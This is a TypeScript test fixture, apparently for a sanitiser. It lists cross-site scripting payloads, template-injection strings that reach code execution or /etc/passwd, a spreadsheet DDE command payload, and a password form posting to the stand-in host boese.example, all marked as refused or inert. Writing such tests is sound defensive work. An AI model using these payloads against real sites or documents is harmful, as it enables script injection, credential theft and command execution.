import { code, type HostileCase } from "../hostile-case.ts";
import { each, everywhere, inCode, inProse, quoted, unsearched } from "../payload.ts";

const markup = [
  `<script>${code}</script>`,
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script href=https://boese.example/x.js></script></svg>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<style>@import 'https://boese.example/x.css'</style>",
  '<base href="https://boese.example/">',
  '<meta http-equiv="refresh" content="0;url=https://boese.example/">',
  '<link rel="stylesheet" href="https://boese.example/x.css">',
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "</title><script>alert(1)</script>",
  "</textarea></noscript><script>alert(1)</script>",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  "<form action=https://boese.example/><input type=password>",
];
const escaped = ["&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;"];
const templates = [
  `{{ ({}).constructor.constructor(${quoted(code)})() }}`,
  `{% set x = cycler.constructor(${quoted(code)}) %}{{ x() }}`,
  "{{ 7 * 7 }} {{{ 7 * 7 }}}",
  '{% include "/etc/passwd" %}',
  '{%- render "../../package.json" -%}',
  `<% ${code} %>`,
  `\${${code}}`,
  `#{${code}}`,
  "[[#{7*7}]] @(7*7)",
  "{count, plural, one {# x} other {{{{}",
];

/** Payloads no rule recognises as a tag or a template: published as text. */
const unremarkable = new Set(["' onmouseover='alert(1)", '" autofocus onfocus="alert(1)']);

/** Tags and templates are refused in texts for readers, and stay text elsewhere. */
function inText(payloads: readonly string[]): HostileCase[] {
  const told = payloads.filter((one) => !unremarkable.has(one));
  const untold = payloads.filter((one) => unremarkable.has(one));
  return [
    ...each("refused", told, inProse),
    ...each("refused", told, everywhere),
    ...each("inert", untold, inProse),
    ...each("inert", untold, everywhere),
    ...each("inert", payloads, inCode),
    ...each("inert", payloads, unsearched),
  ];
}

/** Templates in text. */
export const templatesInText: readonly HostileCase[] = inText(templates);

/** Markup in text. */
export const markupInText: readonly HostileCase[] = [
  ...inText(markup),
  ...each("inert", escaped, inProse),
  // In facts an entity would be read literally.
  ...each("refused", escaped, everywhere),
];

/** Formulas and calendar lines. */
export const formulas: readonly HostileCase[] = each(
  "inert",
  [
    '=HYPERLINK("https://boese.example")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "x;=1+1",
    "BEGIN:VEVENT\\nATTENDEE:x",
    "\r\nX-Evil: 1".trim(),
    "::set-output name=x::y",
    "::error file=x::y",
    "%0A::error::x",
  ],
  everywhere,
);
